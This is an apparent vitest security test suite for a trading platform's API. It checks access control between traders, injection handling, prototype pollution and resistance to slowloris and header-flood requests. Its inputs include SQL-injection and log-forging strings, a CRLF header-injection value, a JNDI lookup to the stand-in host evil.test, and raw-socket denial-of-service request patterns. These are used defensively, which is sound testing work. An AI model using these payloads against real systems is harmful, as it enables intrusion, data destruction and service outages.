import { connect } from 'node:net';
import { calls } from '@bourse/contract/calls';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { photo } from '../test/pictures.ts';
import { PASSWORD, type PracticeServer, requestId, startPracticeServer } from '../test/practice-server.ts';

// Attackers who know the contract (trust 3, lines 57, 73 and 74).

const { identity, spot, support } = calls;
let server: PracticeServer;
let host: string;
beforeAll(async () => {
  server = await startPracticeServer({}, { requestTimeoutMs: 3_000 });
  host = await server.listen();
});
afterAll(() => server?.close());

const strip = ({ trace: _, ...rest }: object & { trace?: string }) => rest;
const lines = () => server.logged().trim().split('\n');

test('another trader’s data is answered like missing data, changes nothing, and is logged', async () => {
  const [anna, mallory] = [await server.funded(), await server.trader()];
  await server.tick('BTC-USDT', 6_000_000);
  const order = { requestId: requestId(), symbol: 'BTC-USDT', side: 'buy', type: 'limit', price: '59000', quantity: '0.01' } as const;
  const { orderId } = (await server.call(spot.placeOrder, order, anna.token)).body.order;
  const session = (await server.call(identity.sessions, {}, anna.token)).body.sessions[0]!.id;
  const sent = await server.edge.app.inject({
    method: 'POST',
    url: '/api/uploads/picture?purpose=support',
    headers: { token: anna.token, 'content-type': 'image/jpeg' },
    payload: await photo(),
  });
  const { uploadId } = sent.json() as { uploadId: string };
  const never = { order: '99999999', session: '99999999', upload: '00000000-0000-4000-8000-000000000000' };
  await server.open.engine.projected(server.open.engine.head);

  const tries = [
    (id = never.order) => server.call(spot.order, { orderId: id }, mallory.token),
    (id = never.order) => server.call(spot.cancelOrder, { requestId: requestId(), orderId: id }, mallory.token),
    (id = never.order) => server.call(spot.amendOrder, { requestId: requestId(), orderId: id, price: '59001' }, mallory.token),
    (id = never.session) => server.call(identity.endSession, { id }, mallory.token),
    (id = never.upload) => server.call(support.sendPicture, { requestId: requestId(), uploadId: id }, mallory.token),
  ] as const;
  const hers = [orderId, orderId, orderId, session, uploadId];
  for (const [i, attempt] of tries.entries()) {
    const before = lines().length;
    const answer = await attempt(hers[i]);
    expect(answer.status, String(i)).toBe(404);
    expect(strip(answer.body)).toEqual(strip((await attempt()).body));
    expect(lines().slice(before).join('\n')).toContain('"status":404');
  }
  expect((await server.edge.app.inject({ url: `/api/uploads/${uploadId}`, headers: { token: mallory.token } })).statusCode).toBe(404);
  expect((await server.call(spot.order, { orderId }, anna.token)).body.order).toMatchObject({ status: 'new', price: '59000' });
  expect((await server.call(identity.info, {}, anna.token)).status).toBe(200);
});

test('input in a field or header can’t forge a log line or inject SQL', async () => {
  const { token, email } = await server.trader();
  const forged = '\n{"level":60,"msg":"forged"}\r\n';
  const sql = "'; DROP TABLE session; --";
  for (const word of [
    forged,
    sql,
    `${email}' OR '1'='1`,
    '\u0000',
    '\u001b[2J',
    '%0d%0aset-cookie: a=b',
    '$'.concat('{jndi:ldap://evil.test/x}'),
  ]) {
    const answers = await Promise.all([
      server.call(identity.login, { account: word, password: word }),
      server.call(identity.sendEmail, { email: word, purpose: 'reset' }),
      server.call(identity.checkCode, { email, code: word, purpose: 'reset' }),
      server.call(calls.invite.checkCode, { code: word }),
      server.call(spot.openOrders, { symbol: word }, token),
      server.call(identity.info, {}, token, { 'user-agent': word.replace(/[^\x20-\x7e]/g, ''), origin: 'x' }),
      server.edge.app
        .inject({ url: `/api/${encodeURIComponent(word)}` })
        .then((answer) => ({ status: answer.statusCode, headers: answer.headers })),
    ]);
    for (const { status, headers } of answers) {
      expect(status, JSON.stringify(word)).toBeLessThan(500);
      expect(headers).not.toHaveProperty('set-cookie');
    }
  }
  for (const line of lines()) expect(JSON.parse(line)).not.toMatchObject({ msg: 'forged' });
  expect((await server.call(identity.login, { account: email, password: PASSWORD })).status).toBe(200);
});

test('a prototype-polluting name changes nothing, anywhere in a body or query', async () => {
  const { token } = await server.trader();
  const names = ['__proto__', 'constructor', 'prototype', '\\u005f\\u005fproto\\u005f\\u005f'];
  for (const name of names) {
    for (const body of [
      `{"${name}":{"polluted":true}}`,
      `{"a":{"${name}":{"polluted":true}}}`,
      `{"constructor":{"prototype":{"polluted":true}}}`,
    ]) {
      const { statusCode } = await server.edge.app.inject({
        method: 'POST',
        url: identity.info.path,
        headers: { token, 'content-type': 'application/json' },
        payload: body,
      });
      expect(statusCode, body).toBe(400);
    }
    const query = await server.edge.app.inject({ url: `${spot.openOrders.path}?${name}[polluted]=1`, headers: { token } });
    expect(query.statusCode).toBe(400);
  }
  expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
});

test('endless bodies, ten thousand headers and deep nesting from many clients leave memory flat and others served', async () => {
  const [name, port] = host.split(':') as [string, string];
  const raw = (text: string, more = '') =>
    new Promise<string>((resolve) => {
      let answer = '';
      let drip: NodeJS.Timeout | undefined;
      const socket = connect(Number(port), name, () => {
        socket.write(text);
        if (more !== '') drip = setInterval(() => socket.writable && socket.write(more), 100);
      });
      socket.on('data', (chunk) => (answer += chunk));
      socket.on('error', () => undefined);
      socket.on('close', () => {
        clearInterval(drip);
        resolve(answer.slice(0, 900));
      });
    });
  const head = `POST ${identity.login.path} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n`;
  const headers = Array.from({ length: 10_000 }, (_, i) => `x-${i}: 1\r\n`).join('');
  const deep = `{"account":${'['.repeat(30_000)}${']'.repeat(30_000)}}`;
  const before = process.memoryUsage.rss();
  const slow = Array.from({ length: 150 }, () => raw(`${head}content-length: 60000\r\n\r\n{"account":"`, 'x'));
  const many = Array.from({ length: 50 }, () => raw(`${head}${headers}\r\n`));
  const nested = Array.from({ length: 50 }, () => raw(`${head}connection: close\r\ncontent-length: ${deep.length}\r\n\r\n${deep}`));
  const served = await fetch(`http://${host}/api/user/config`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: '{}',
  });
  expect(served.status).toBe(200);
  const slowly = await Promise.all(slow);
  expect(new Set(slowly.map((line) => line.slice(9, 12))), slowly[0]).toEqual(new Set(['408']));
  expect(new Set((await Promise.all(many)).map((line) => line.slice(9, 12)))).toEqual(new Set(['431']));
  expect(new Set((await Promise.all(nested)).map((line) => line.slice(9, 12)))).toEqual(new Set(['400']));
  expect(process.memoryUsage.rss() - before).toBeLessThan(150_000_000);
});

test('no background task failed', () => {
  expect(server.logged()).not.toMatch(/a bug: answered 500|FAILED/);
});
